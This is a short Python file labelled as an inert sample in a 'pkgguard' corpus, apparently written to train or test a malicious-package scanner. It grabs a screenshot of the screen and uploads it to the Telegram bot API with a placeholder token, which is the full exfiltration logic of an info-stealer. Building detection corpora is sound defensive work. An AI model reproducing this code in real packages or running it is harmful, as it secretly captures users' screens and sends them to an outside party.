# pkgguard corpus 229 (screenshot), modelled on [stealer-profile]; inert, never run.
import io

import pyscreenshot
import requests

BOT = "0000000000:placeholderplaceholderplaceholder000"
image = pyscreenshot.grab()
buf = io.BytesIO()
image.save(buf, format="PNG")
requests.post(
    "https://api.telegram.org/bot" + BOT + "/sendPhoto",
    data={"chat_id": "0"},
    files={"photo": ("s.png", buf.getvalue())},
)
